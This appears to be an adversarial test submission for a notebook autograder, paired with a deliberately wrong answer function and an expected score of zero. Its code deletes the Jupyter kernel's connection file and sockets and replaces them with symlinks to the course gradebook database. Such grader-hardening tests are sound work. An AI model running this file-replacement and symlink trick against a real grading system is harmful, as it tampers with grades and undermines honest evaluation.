# Puts links to the gradebook in place of its connection file and sockets, which the grader removes afterwards.
# 0 points: .*
import glob
import os

import ipykernel

folder = os.path.dirname(ipykernel.get_connection_file())
for path in glob.glob(f"{folder}/*"):
    os.remove(path)
    os.symlink("COURSE/gradebook.db", path)
os.symlink("COURSE", f"{folder}/course")


def double(x):
    return 3 * x
